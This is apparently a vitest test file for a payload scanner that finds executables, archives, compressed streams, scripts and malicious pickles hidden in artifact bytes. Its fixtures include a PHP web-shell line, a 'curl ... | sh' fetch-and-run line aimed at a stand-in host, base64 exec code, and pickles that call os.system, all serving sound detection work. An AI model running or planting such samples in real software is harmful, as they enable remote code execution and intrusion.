import { createHash } from 'node:crypto';
import { gzipSync, zstdCompressSync } from 'node:zlib';
import type { PayloadFact } from '@sentrascan/contract';
import { assemblePickle, EXECUTABLE_HEADS } from '@sentrascan/testkit';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MemoryAccess } from '../../bytes/random-access.ts';
import { createSweepKernel, typescriptKernel } from '../../bytes/sweep/sweep-kernel.ts';
import { LIMITS } from '../../limits.ts';
import { CARRY_BYTES, hashAndSweep, type SweepOptions } from './hash-and-sweep.ts';
import { payloadsIn, type SearchedRange } from './payloads-in.ts';

const SMALL_WINDOW_BYTES = 4096;

function ascii(text: string): Uint8Array {
  return Buffer.from(text, 'latin1');
}

/** Deterministic noise without a structure. */
function noise(lengthBytes: number, seed = 1): Uint8Array {
  const bytes = new Uint8Array(lengthBytes);
  let state = seed * 0x9e3779b1;
  for (let index = 0; index < lengthBytes; index++) {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    bytes[index] = state >>> 24;
  }
  return bytes;
}

function zipLocalHeader(name: string, data: Uint8Array): Uint8Array {
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(20, 4);
  head.writeUInt32LE(data.length, 18);
  head.writeUInt32LE(data.length, 22);
  head.writeUInt16LE(name.length, 26);
  return Buffer.concat([head, ascii(name), data]);
}

function tarHeader(name: string, magic: string): Uint8Array {
  const block = Buffer.alloc(512);
  block.write(name, 0, 'latin1');
  block.write('0000644\0', 100, 'latin1');
  block.write('00000000000\0', 124, 'latin1');
  block.write(magic, 257, 'latin1');
  block.fill(0x20, 148, 156);
  const sum = block.reduce((total, byte) => total + byte, 0);
  block.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
  return block;
}

const SCRIPTS: Record<string, string> = {
  PHP: '<?php system($_GET["c"]); ?>',
  batch: '@echo off\r\ncall inert.bat\r\n',
  'Python that imports': 'import os\nos.system("echo inert")\n',
  'Python in one line': "import os,sys;os.system('echo inert')\n",
  'Python without a statement': "__import__('os').system('echo inert')",
  'Python that runs code': "exec(base64.b64decode('cHJpbnQoMSk='))",
};

const HEADS: Record<string, Uint8Array> = {
  ...Object.fromEntries(Object.entries(EXECUTABLE_HEADS).map(([kind, head]) => [kind, head()])),
  zip: zipLocalHeader('a.txt', ascii('text')),
  tar: tarHeader('a.txt', 'ustar\x0000'),
  gzip: gzipSync(noise(300)),
  bzip2: Uint8Array.from([...ascii('BZh9'), 0x31, 0x41, 0x59, 0x26, 0x53, 0x59, 1, 2, 3, 4]),
  xz: Uint8Array.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0, 0, 4, 0xe6, 0xd6, 0xb4, 0x46]),
  // One compressed frame of two raw blocks, single segment, content size 4.
  zstd: Uint8Array.from([0x28, 0xb5, 0x2f, 0xfd, 0x20, 4, 16, 0, 0, 1, 2, 17, 0, 0, 3, 4]),
  pickle: assemblePickle('PROTO 4 | GLOBAL os system | UNICODE id | TUPLE1 | REDUCE | STOP'),
};

function search(bytes: Uint8Array, ranges?: SearchedRange[], options?: SweepOptions): readonly PayloadFact[] {
  const access = new MemoryAccess(bytes);
  const { hits } = hashAndSweep(access, options);
  return payloadsIn(access, hits, ranges ?? [{ start: 0, end: bytes.length, where: 'opaque' }]).payloads;
}

describe('payload validators', () => {
  it.each(Object.entries(HEADS))('recognise %s at the start, in noise and at the end', (kind, head) => {
    for (const before of [0, 1, 7777, 70_001]) {
      const bytes = Buffer.concat([noise(before, 3), head, before === 0 ? noise(50, 4) : new Uint8Array(0)]);
      const found = search(bytes).filter((payload) => payload.payload === kind);
      expect(found.map((payload) => payload.offset)).toContain(before);
    }
  });

  it.each(Object.entries(HEADS))('find %s across every boundary of windows', (kind, head) => {
    const kernel = createSweepKernel(SMALL_WINDOW_BYTES);
    for (let back = 0; back <= Math.min(head.length, 300); back += back < 16 ? 1 : 23) {
      const at = SMALL_WINDOW_BYTES - back;
      const bytes = Buffer.concat([new Uint8Array(at), head, new Uint8Array(64)]);
      expect(search(bytes, undefined, { kernel })).toContainEqual(
        expect.objectContaining({ payload: kind, offset: at }),
      );
    }
  });

  it.each(Object.entries(HEADS))(
    'decline %s when its header is cut or one of its first bytes differs',
    (kind, head) => {
      for (const cut of [1, 2, 3]) {
        expect(search(head.subarray(0, cut)).filter((payload) => payload.payload === kind)).toEqual([]);
      }
      const changed = Uint8Array.from(head);
      changed[1] = (changed[1] ?? 0) ^ 0x40;
      expect(search(changed).filter((payload) => payload.payload === kind && payload.offset === 0)).toEqual(
        [],
      );
    },
  );

  it('find nothing in noise, zeros, floats and lookalikes', () => {
    expect(search(noise(4 * 1024 * 1024, 9))).toEqual([]);
    expect(search(new Uint8Array(1024 * 1024))).toEqual([]);
    const floats = Float32Array.from({ length: 250_000 }, (_, index) => Math.sin(index) * 0.02);
    expect(search(new Uint8Array(floats.buffer))).toEqual([]);
    const tokens = Int32Array.from({ length: 100_000 }, (_, index) => (index * 7919) % 50_000);
    expect(search(new Uint8Array(tokens.buffer))).toEqual([]);
    const lookalikes = [
      'MZ',
      'MZ\x90\0'.padEnd(80, '\0'),
      'PK\x03\x04',
      '\x1f\x8b',
      `\x1f\x8b\x08\0\0\0\0\0\0\x03${'\xff'.repeat(40)}`,
      '#!\x01\x02',
      '#!/not a program, some text',
      '\x80\x02.',
      '\x80\x04K\x01.',
      '\xca\xfe\xba\xbe',
      '\x7fELF',
      'BZh9 is a prefix',
      'Rar! is a word',
    ];
    for (const text of lookalikes) {
      const bytes = Buffer.concat([noise(999, 5), ascii(text), noise(999, 6)]);
      expect(search(bytes), text).toEqual([]);
    }
  });

  it('tell a Java class from a fat Mach-O', () => {
    expect(search(HEADS['java-class'] ?? new Uint8Array(0))[0]?.payload).toBe('java-class');
    expect(search(HEADS['mach-o-fat'] ?? new Uint8Array(0))[0]?.payload).toBe('mach-o-fat');
  });

  it.each([
    ['batch', 'setlocal\r\nrem inert\r\n'],
    ['PowerShell', '$client = New-Object Net.WebClient\n'],
    ['Python', 'import os\nprint("inert")\n'],
    ['shell', 'curl http://host.invalid/x | sh\n'],
  ])('recognise %s source only where a range starts', (language, source) => {
    expect(search(ascii(source))[0]?.detail).toContain(language);
    expect(search(Buffer.concat([noise(100), ascii(source)]))).toEqual([]);
  });

  it.each([
    ['a call', 'GLOBAL os system | MARK | STRING "\'id\'" | TUPLE | REDUCE | STOP'],
    ['a memo', "GLOBAL posix system | RAW x'70300a' | MARK | STRING \"'id'\" | TUPLE | REDUCE | STOP"],
    ['an instance', 'MARK | STRING "\'id\'" | INST os system | STOP'],
    [
      'two strings',
      'SHORT_BINUNICODE os | SHORT_BINUNICODE system | STACK_GLOBAL | SHORT_BINUNICODE id | TUPLE1 | REDUCE | STOP',
    ],
    [
      'strings kept',
      'BINUNICODE os | MEMOIZE | BINUNICODE system | MEMOIZE | STACK_GLOBAL | MEMOIZE | BINUNICODE id | TUPLE1 | REDUCE | STOP',
    ],
    ['an object', 'MARK | GLOBAL os system | STRING "\'id\'" | OBJ | STOP'],
  ])('recognise a pickle without PROTO anywhere, by %s', (_, source) => {
    const old = assemblePickle(source);
    for (const before of [noise(64, 2), new Uint8Array(64), ascii('the text before: ')]) {
      const found = search(Buffer.concat([before, old, noise(64, 3)]));
      expect(found).toEqual([
        expect.objectContaining({ payload: 'pickle', offset: before.length, lengthBytes: old.length }),
      ]);
    }
  });

  it('tell a pickle once, whatever it names', () => {
    const stream = assemblePickle(
      'PROTO 2 | GLOBAL os system | UNICODE id | TUPLE1 | REDUCE | POP | GLOBAL os system | MARK | UNICODE id | TUPLE | REDUCE | STOP',
    );
    expect(search(Buffer.concat([noise(64, 2), stream, noise(64, 3)]))).toHaveLength(1);
  });

  it('take no list of words for a pickle', () => {
    const letters = 'abcdefghiklmnoprstuy.(R)';
    const random = noise(400_000, 11);
    const words = Array.from({ length: 80_000 }, (_, index) =>
      Array.from(
        { length: 1 + ((random[index] ?? 0) % 8) },
        (__, place) => letters[(random[(index * 5 + place) % random.length] ?? 0) % letters.length],
      ).join(''),
    );
    expect(search(ascii(words.join('\n')))).toEqual([]);
  });

  it('recognise a pickle without PROTO that calls nothing only where a range starts', () => {
    const old = assemblePickle('GLOBAL os system | MARK | STRING "\'id\'" | TUPLE | REDUCE | STOP');
    expect(search(old)[0]).toMatchObject({
      payload: 'pickle',
      offset: 0,
      detail: expect.stringContaining('os.system'),
    });
    const bytes = Buffer.concat([noise(64, 2), old]);
    expect(search(bytes, [{ start: 64, end: bytes.length, where: 'tail' }])[0]?.where).toBe('tail');
  });
});

describe('pickles', () => {
  it.each([2, 3, 4, 5])(
    'with long strings and many values are walked to their STOP, protocol %i',
    (protocol) => {
      const long = 'x'.repeat(70_000);
      const values = Array.from({ length: 300 }, (_, index) => `BININT ${index}`).join(' | ');
      const source = `PROTO ${protocol} | MARK | BINUNICODE "${long}" | ${values} | TUPLE | POP | GLOBAL os system | UNICODE "${long}" | TUPLE1 | REDUCE | STOP`;
      const stream = assemblePickle(source);
      const bytes = Buffer.concat([noise(700, 2), stream, noise(700, 3)]);
      expect(search(bytes)).toContainEqual(
        expect.objectContaining({
          payload: 'pickle',
          offset: 700,
          lengthBytes: stream.length,
          detail: expect.stringContaining('os.system'),
        }),
      );
    },
  );

  it('that name nothing and are short are no payload: they can do nothing', () => {
    const stream = assemblePickle('PROTO 4 | MARK | BININT1 1 | BININT1 2 | TUPLE | STOP');
    expect(search(Buffer.concat([noise(64, 2), stream, noise(64, 3)]))).toEqual([]);
  });

  it('that break after they named something are told all the same', () => {
    const values = Array.from({ length: 20 }, () => 'NONE | POP').join(' | ');
    const stream = assemblePickle(`PROTO 2 | GLOBAL os system | ${values} | RAW x'ff'`);
    expect(search(Buffer.concat([noise(64, 2), stream]))[0]).toMatchObject({
      payload: 'pickle',
      offset: 64,
      detail: expect.stringContaining('without STOP'),
    });
  });
});

describe('compressed streams as their tools write them', () => {
  it.each([0, 1, 20, 63, 500, 5000, 300_000])('of %i bytes are recognised between other bytes', (size) => {
    for (const content of [
      new Uint8Array(size),
      noise(size, 8),
      ascii('some text '.repeat(size / 10 + 1)).subarray(0, size),
    ]) {
      for (const [kind, stream] of [
        ['gzip', gzipSync(content)],
        ['zstd', zstdCompressSync(content)],
      ] as const) {
        // One raw block of a frame is too little to tell from chance in a large file, so this one is small.
        const bytes = Buffer.concat([noise(500, 2), stream, noise(500, 3)]);
        expect(search(bytes).map(({ payload, offset }) => `${payload} ${offset}`)).toContain(`${kind} 500`);
      }
    }
  });
});

describe('scripts quoted by text', () => {
  const quote = ascii('An example of a script, as the manual shows it:\n\n#!/bin/sh\necho inert\n');

  it('are no payload of a document, and one where no text belongs', () => {
    const whole: SearchedRange = { start: 0, end: quote.length, where: 'whole' };
    expect(search(quote, [whole])).toEqual([]);
    expect(search(quote, [{ ...whole, where: 'tail' }])[0]).toMatchObject({
      payload: 'script',
      detail: '#!/bin/sh',
    });
    const inNoise = Buffer.concat([noise(100), ascii('\n#!/bin/sh\necho inert\n')]);
    expect(search(inNoise)[0]).toMatchObject({ payload: 'script', offset: 101 });
  });
});

describe('the pass over an artifact', () => {
  it('hands every byte to the hash once and in order', () => {
    const bytes = noise(3 * SMALL_WINDOW_BYTES + 123);
    for (const kernel of [createSweepKernel(SMALL_WINDOW_BYTES), typescriptKernel(SMALL_WINDOW_BYTES)]) {
      const hash = createHash('sha256');
      const sweep = hashAndSweep(new MemoryAccess(bytes), { onBytes: (chunk) => hash.update(chunk), kernel });
      expect(hash.digest('hex')).toBe(createHash('sha256').update(bytes).digest('hex'));
      expect(sweep.bytesSwept).toBe(bytes.length);
    }
  });

  it('says how far it came when it is stopped or the bytes end early', () => {
    const bytes = noise(3 * SMALL_WINDOW_BYTES);
    const kernel = createSweepKernel(CARRY_BYTES + SMALL_WINDOW_BYTES);
    let chunks = 0;
    const stopped = hashAndSweep(new MemoryAccess(bytes), { kernel, shouldStop: () => chunks++ === 1 });
    expect(stopped.bytesSwept).toBe(SMALL_WINDOW_BYTES);
    const shrunk = { ...new MemoryAccess(bytes), sizeBytes: bytes.length, readInto: () => 0 };
    expect(hashAndSweep(shrunk as unknown as MemoryAccess, { kernel }).bytesSwept).toBe(0);
  });

  it('gives the same hits with both searches, whatever the bytes, and never throws', () => {
    const heads = Object.values(HEADS);
    const piece = fc.oneof(
      fc.uint8Array({ maxLength: 200 }),
      fc.tuple(fc.constantFrom(...heads), fc.nat(600)).map(([head, cut]) => head.subarray(0, cut)),
      fc.tuple(fc.constantFrom(...heads), fc.nat(600), fc.nat(255)).map(([head, at, byte]) => {
        const changed = Uint8Array.from(head);
        changed[at % changed.length] = byte;
        return changed;
      }),
    );
    const kernels = [createSweepKernel(SMALL_WINDOW_BYTES), typescriptKernel(SMALL_WINDOW_BYTES)] as const;
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const bytes = Buffer.concat(pieces);
        const [first, second] = kernels.map((kernel) => search(bytes, undefined, { kernel }));
        expect(first).toEqual(second);
        for (const payload of first ?? []) {
          expect(payload.offset).toBeGreaterThanOrEqual(0);
          expect(payload.offset + (payload.lengthBytes ?? 0)).toBeLessThanOrEqual(bytes.length);
        }
      }),
      { numRuns: 300 },
    );
  });

  it('keeps lookalikes from buying time: the proof is bounded and says so', () => {
    const bytes = Buffer.alloc(4 * 1024 * 1024);
    for (let at = 0; at + 4 < bytes.length; at += 2) bytes.set([0x80, 2], at);
    const sweep = hashAndSweep(new MemoryAccess(bytes));
    expect(sweep.isProofExhausted).toBe(true);
  });

  it.each([
    ['gzip', gzipSync(ascii('a')).subarray(0, 12)],
    ['pickle', ascii('cos\nsystem\n')],
  ])('declines what it cannot prove any more: heads of %s', (kind, head) => {
    const access = new MemoryAccess(Buffer.alloc(400_000 * head.length, head));
    const { hits, isProofExhausted } = hashAndSweep(access);
    expect(isProofExhausted).toBe(true);
    const range: SearchedRange = { start: 0, end: access.sizeBytes, where: 'tail' };
    const found = payloadsIn(access, hits, [range]).payloads;
    expect(found.length).toBeLessThanOrEqual(1);
    expect(found.every(({ payload }) => payload === kind)).toBe(true);
  });

  it('ends where there are more payloads than are told', () => {
    const access = new MemoryAccess(Buffer.alloc(2_000_000, ascii('#!/bin/sh\n')));
    const range: SearchedRange = { start: 0, end: access.sizeBytes, where: 'tail' };
    const { payloads, isCapped } = payloadsIn(access, hashAndSweep(access).hits, [range]);
    expect({ told: payloads.length, isCapped }).toEqual({ told: LIMITS.payloadFacts.value, isCapped: true });
  });

  it('tells a row of archives once, with how many there are', () => {
    const entry = zipLocalHeader('a', ascii('data'));
    const access = new MemoryAccess(Buffer.alloc(50_000 * entry.length, entry));
    const range: SearchedRange = { start: 0, end: access.sizeBytes, where: 'tail' };
    const { payloads } = payloadsIn(access, hashAndSweep(access).hits, [range]);
    expect(payloads).toMatchObject([{ payload: 'zip', offset: 0, detail: 'zip entry "a" and 49999 more' }]);
  });
});

describe('a file that is a program', () => {
  const symbols = gzipSync(noise(400));
  const program = Buffer.concat([
    EXECUTABLE_HEADS.elf(),
    noise(500),
    symbols,
    ascii('\0#!/bin/sh\n'),
    noise(9),
  ]);

  it('is told once, whatever it holds, but for a pickle', () => {
    const whole = (bytes: Uint8Array): SearchedRange[] => [{ start: 0, end: bytes.length, where: 'whole' }];
    expect(search(program, whole(program)).map(({ payload }) => payload)).toEqual(['elf']);
    const more = Buffer.concat([program, HEADS['pickle'] ?? new Uint8Array(0)]);
    expect(search(more, whole(more)).map(({ payload }) => payload)).toEqual(['elf', 'pickle']);
    expect(search(program).map(({ payload }) => payload)).toEqual(['elf', 'gzip', 'script']);
  });
});

describe('payloads in ranges', () => {
  const elf = EXECUTABLE_HEADS.elf();
  const bytes = Buffer.concat([elf, new Uint8Array(1000), elf, new Uint8Array(1000), elf]);

  it('are only those that start where nobody explains the bytes', () => {
    const second = elf.length + 1000;
    const payloads = search(bytes, [{ start: 500, end: second + 1, where: 'between' }]);
    expect(payloads).toEqual([
      { kind: 'payload', payload: 'elf', offset: second, detail: 'ELF 64-bit executable', where: 'between' },
    ]);
    expect(search(bytes, [{ start: 1, end: second, where: 'between' }])).toEqual([]);
    expect(search(bytes, [])).toEqual([]);
  });

  it('tell an archive of several entries once', () => {
    const archive = Buffer.concat(['a', 'b', 'c'].map((name) => zipLocalHeader(name, ascii('data'))));
    expect(search(archive)).toEqual([
      { kind: 'payload', payload: 'zip', offset: 0, detail: 'zip entry "a" and 2 more', where: 'opaque' },
    ]);
  });

  it('find a PE whose signature lies far behind its start', () => {
    const pe = Buffer.alloc(60_000 + 64);
    pe.write('MZ', 0, 'latin1');
    pe.writeUInt32LE(60_000, 60);
    pe.set(EXECUTABLE_HEADS.pe().subarray(128), 60_000);
    const whole = Buffer.concat([noise(5000), pe]);
    expect(search(whole, [{ start: 4999, end: 5001, where: 'between' }])[0]).toMatchObject({
      payload: 'pe',
      offset: 5000,
    });
  });
});

describe('scripts without a first line of their own', () => {
  const sweep = (bytes: Uint8Array) => {
    const access = new MemoryAccess(bytes);
    const { hits } = hashAndSweep(access);
    return payloadsIn(access, hits, [{ start: 0, end: bytes.length, where: 'opaque' }]).payloads;
  };
  it.each(Object.entries(SCRIPTS))('find %s in noise at any offset', (_, text) => {
    for (const before of [301, 1024]) {
      const bytes = Buffer.concat([noise(before), ascii(`\0${text}`), noise(99, 5)]);
      expect(sweep(bytes)).toMatchObject([{ payload: 'script', offset: before + 1 }]);
    }
  });

  it.each([
    'import os and other modules of the standard library are imported first',
    'import os\nimport numpy as np\nx = np.zeros(3)\n',
    '<?php echo 1; ?>',
    'exec(uted) in order',
    '@echo',
  ])('leave %j alone', (text) => {
    expect(sweep(Buffer.concat([noise(301), ascii(`\0${text}`), noise(99, 5)]))).toEqual([]);
  });

  it('are quoted by text before them', () => {
    const text = `${'A page about Python. '.repeat(5)}\nimport os\nos.system("echo inert")\n`;
    expect(sweep(ascii(text)).filter(({ offset }) => offset > 0)).toEqual([]);
  });
});
